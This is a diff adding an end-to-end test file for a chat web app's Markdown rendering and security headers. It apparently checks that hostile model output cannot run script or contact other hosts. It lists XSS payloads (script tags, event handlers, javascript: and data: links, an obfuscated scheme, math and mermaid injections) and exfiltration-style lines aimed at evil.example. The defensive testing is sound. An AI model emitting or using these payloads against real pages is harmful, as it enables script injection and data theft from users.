@@ -1,0 +1,86 @@
+import { expect, test } from './support/test'
+
+/** What a model might be talked into saying. Whatever of it runs sets window.stolen. */
+const hostile = [
+  '# 見出し',
+  '<script>window.stolen = true</script>',
+  '<img src="x" onerror="window.stolen = true">',
+  '<svg onload="window.stolen = true"><script>window.stolen = true</script></svg>',
+  '<a href="javascript:window.stolen = true">生のリンク</a>',
+  '<iframe srcdoc="<script>parent.stolen = true</script>"></iframe>',
+  '<style>body { display: none }</style>',
+  '<form action="https://evil.example"><button>送る</button></form>',
+  '[危ないリンク](javascript:window.stolen=true)',
+  '[隠れたリンク](&#106;avascript:window.stolen=true)',
+  '[改行のリンク](<java\nscript:window.stolen=true>)',
+  '[データのリンク](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuc3RvbGVuPXRydWU8L3NjcmlwdD4=)',
+  '![絵](https://evil.example/pixel.png?secret=1)',
+  '![絵](javascript:window.stolen=true)',
+  '<https://example.com/"onmouseover="window.stolen=true>',
+  '[よいリンク](https://example.com/ok)',
+  '$\\href{javascript:window.stolen=true}{式のリンク}$ と $\\htmlData{x=y}{z}$ と $\\url{javascript:window.stolen=true}$',
+  '```html\n<img src=x onerror="window.stolen = true">\n```',
+  '```mermaid\ngraph TD; A["<img src=x onerror=window.stolen=true>"]\n```',
+  '| 列 |\n| --- |\n| <b onclick="window.stolen=true">太字</b> |',
+  '末尾の段落です。',
+].join('\n\n')
+
+test('R68: Markdown from a model runs no script and asks no other host', async ({
+  chat,
+  page,
+  context,
+  baseURL,
+  model,
+  question,
+}) => {
+  const elsewhere: string[] = []
+  context.on('request', (request) => {
+    if (!request.url().startsWith(baseURL ?? '-')) elsewhere.push(request.url())
+  })
+  model.script(question, {
+    text: hostile,
+    tokens_per_second: 300,
+    title: '<img src=x onerror=window.stolen=true>',
+  })
+  await chat.open()
+  await chat.ask(`${question}\n<img src=x onerror="window.stolen = true">`)
+  await expect(chat.answer).toContainText('末尾の段落です。')
+  await chat.finished()
+
+  const check = async () => {
+    const body = chat.turns
+    await expect(
+      body.locator('script, iframe, form, style, img, object, embed, [onerror], [onclick], [onload]'),
+    ).toHaveCount(0)
+    const targets = await body
+      .locator('a')
+      .evaluateAll((links) => links.map((link) => link.getAttribute('href')))
+    for (const target of targets) expect(target ?? '#').toMatch(/^(https?:|mailto:|#)/)
+    for (const link of await body.locator('a').all()) await link.hover()
+    expect(await page.evaluate(() => window.stolen)).toBeUndefined()
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  }
+  await check()
+  const good = chat.answer.getByRole('link', { name: 'よいリンク' })
+  await expect(good).toHaveAttribute('href', 'https://example.com/ok')
+  await expect(good).toHaveAttribute('rel', /noopener|noreferrer/)
+  await page.reload()
+  await chat.finished()
+  await check()
+  expect(elsewhere).toEqual([])
+})
+
+test('every page comes with a strict policy, and nothing may frame it', async ({ request }) => {
+  for (const path of ['/', '/home/skill', '/docs/api', '/nonsense']) {
+    const { 'content-security-policy': policy = '', ...headers } = (await request.get(path)).headers()
+    expect(policy, path).toMatch(/default-src '(self|none)'/)
+    expect(policy, path).not.toMatch(/unsafe-inline|unsafe-eval|\*/)
+    expect(policy, path).toContain("frame-ancestors 'none'")
+    expect(headers['x-content-type-options'], path).toBe('nosniff')
+  }
+})
+
+test('the API page reads without scripts from elsewhere', async ({ page }) => {
+  await page.goto('/docs/api')
+  await expect(page.getByText('/v1/message/stream').first()).toBeVisible()
+})
